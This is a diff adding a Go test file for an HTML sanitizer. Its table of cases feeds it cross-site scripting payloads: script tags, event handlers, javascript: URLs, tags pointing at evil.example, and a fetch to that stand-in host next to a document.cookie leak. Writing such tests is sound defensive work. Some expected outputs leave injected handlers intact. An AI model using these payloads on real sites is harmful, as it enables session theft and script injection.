@@ -0,0 +1,84 @@
+package htmlsanitize
+
+import (
+	"strings"
+	"testing"
+
+	"shellserver/internal/styles"
+)
+
+func TestSanitize(t *testing.T) {
+	tests := []struct {
+		name, doc, want string
+	}{
+		// Known payloads
+		{"script", `<p>a</p><script>alert(1)</script><p>b</p>`, `<p>a</p><p>b</p>`},
+		{"script in caps", `<SCRIPT SRC=//evil.example/x.js></SCRIPT>ok`, `ok`},
+		{"self-closed script", `<script/>alert(1)</script>ok`, `ok`},
+		{"unclosed script", `ok<script>alert(1)`, `ok`},
+		{"img onerror", `<img src=x onerror=alert(1)>`, `<img src="x">`},
+		{"slash as separator", `<img/src=x/onerror=alert(1)>`, `<img/src=x/onerror=alert(1)>`},
+		{"svg onload", `<svg onload=alert(1)><circle/></svg>after`, `after`},
+		{"svg attribute after slash", `<svg/onload=alert(1)>after`, ``},
+		{"self-closed svg", `<svg/>after`, `after`},
+		{"iframe", `<iframe src="javascript:alert(1)"></iframe>ok`, `ok`},
+		{"object and embed", `<object data="x.swf"><embed src="x.swf"></object><embed src=y>ok`, `ok`},
+		{"javascript href", `<a href="javascript:alert(1)">x</a>`, `<a>x</a>`},
+		{"javascript href obfuscated", `<a href=" JaVa&#x09;ScRiPt:alert(1)">x</a>`, `<a>x</a>`},
+		{"javascript href entity", `<a href="&#106;avascript:alert(1)">x</a>`, `<a>x</a>`},
+		{"vbscript href", `<a href="vbscript:msgbox(1)">x</a>`, `<a>x</a>`},
+		{"data html href", `<a href="data:text/html,<script>alert(1)</script>">x</a>`, `<a>x</a>`},
+		{"data svg image", `<img src="data:image/svg+xml,<svg onload=alert(1)>">`, `<img>`},
+		{"meta refresh", `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`, `<meta content="0;url=javascript:alert(1)">`},
+		{"base", `<base href="//evil.example/">ok`, `ok`},
+		{"link", `<link rel=stylesheet href=//evil.example/x.css>ok`, `ok`},
+		{"form action", `<form action="//evil.example"><input name=q></form>`, `<input name=q>`},
+		{"button formaction", `<button formaction="javascript:alert(1)">x</button>`, `<button>x</button>`},
+		{"other handlers", `<div onmouseover="alert(1)" onfocus=alert(2) class=x>y</div>`, `<div class="x">y</div>`},
+		{"runCommand with more", `<button onclick="runCommand(&quot;ls&quot;);fetch('//evil.example')">x</button>`, `<button>x</button>`},
+		{"runCommand concatenated", `<button onclick="runCommand(&quot;ls&quot; + document.cookie)">x</button>`, `<button>x</button>`},
+		{"noscript mutation", `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<img src="x">">`},
+		{"template", `<template><img src=x onerror=alert(1)></template>ok`, `ok`},
+		{"comment", `<!--<img src=x onerror=alert(1)>-->ok`, `ok`},
+		{"style breakout", `<style>p{}</style><img src=x onerror=alert(1)>`, `<style>p{}</style><img src="x">`},
+		{"unclosed style", `<style>p{}`, `<style>p{}</style>`},
+		{"textarea text", `<textarea></textarea><script>alert(1)</script></textarea>`, `<textarea></textarea></textarea>`},
+		{"textarea escape", `<textarea><img src=x onerror=alert(1)></textarea>`, `<textarea><img src=x onerror=alert(1)></textarea>`},
+		{"title escape", `<title></title><img src=x onerror=alert(1)></title>`, `<title></title><img src="x"></title>`},
+		{"unknown tag", `<blink onclick=alert(1)>hi</blink>`, `hi`},
+		{"odd attribute name", `<div data-x"y=1 aria-label=z>q</div>`, `<div aria-label="z">q</div>`},
+		{"tree toggle injected", `<button id="a');alert(1);//-toggle-1" onclick="var c=document.getElementById('a');alert(1);//-children-1')">x</button>`, `<button id="a&#39;);alert(1);//-toggle-1">x</button>`},
+
+		// What the bundled tools write passes unchanged
+		{"runCommand button", `<button type="button" class="shell-sort-btn" onclick="runCommand(&quot;'/usr/bin/lsh' --sort=size '/tmp'&quot;)">size</button>`, `<button type="button" class="shell-sort-btn" onclick="runCommand(&quot;'/usr/bin/lsh' --sort=size '/tmp'&quot;)">size</button>`},
+		{"inline styles", `<style>.a{color:red}</style><span class="a" style="color: #e06c75; font-weight: bold">x</span>`, `<style>.a{color:red}</style><span class="a" style="color: #e06c75; font-weight: bold">x</span>`},
+		{"freshness marker", `<meta name="goshell-freshness" content="fs" data-dir="/tmp" data-fingerprint="1a2b" data-refresh="lsh --key x">`, `<meta name="goshell-freshness" content="fs" data-dir="/tmp" data-fingerprint="1a2b" data-refresh="lsh --key x">`},
+		{"links", `<a href="/files/x" target="_blank" rel="noopener">x</a><a href="https://example.com/?a=1&amp;b=2">y</a><a href="mailto:me@example.com">z</a>`, `<a href="/files/x" target="_blank" rel="noopener">x</a><a href="https://example.com/?a=1&amp;b=2">y</a><a href="mailto:me@example.com">z</a>`},
+		{"raster data image", `<img src="data:image/png;base64,iVBORw0KGgo=" alt="">`, `<img src="data:image/png;base64,iVBORw0KGgo=" alt="">`},
+		{"tabs", `<input type="radio" class="shell-tab-radio" name="t" id="t-1" checked><label class="shell-tab" for="t-1">One</label>`, `<input type="radio" class="shell-tab-radio" name="t" id="t-1" checked><label class="shell-tab" for="t-1">One</label>`},
+		{"text", "a &lt;b&gt; 1 < 2\n<p>x</p>", "a &lt;b&gt; 1 < 2\n<p>x</p>"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := string(Sanitize([]byte(tt.doc))); got != tt.want {
+				t.Errorf("Sanitize(%q)\n = %q\nwant %q", tt.doc, got, tt.want)
+			}
+		})
+	}
+}
+
+func TestSanitizeKeepsTreeTables(t *testing.T) {
+	styles.ResetTreeNodeCounter()
+	tree := styles.RenderTreeTable([]*styles.TreeNode{{
+		Cells:      []string{"src"},
+		Expandable: true,
+		Children:   []*styles.TreeNode{{Cells: []string{"main.go"}, Style: "color: red"}},
+	}}, styles.TreeTableConfig{TogglePrefix: "duh"})
+	doc := "<style>" + styles.TreeTableCSS() + "</style>" + tree
+	if got := string(Sanitize([]byte(doc))); got != doc {
+		t.Errorf("tree table changed:\n%s\nwant\n%s", got, doc)
+	}
+	if !strings.Contains(doc, `onclick="var c=document.getElementById(`) {
+		t.Error("tree table has no toggle handler to keep")
+	}
+}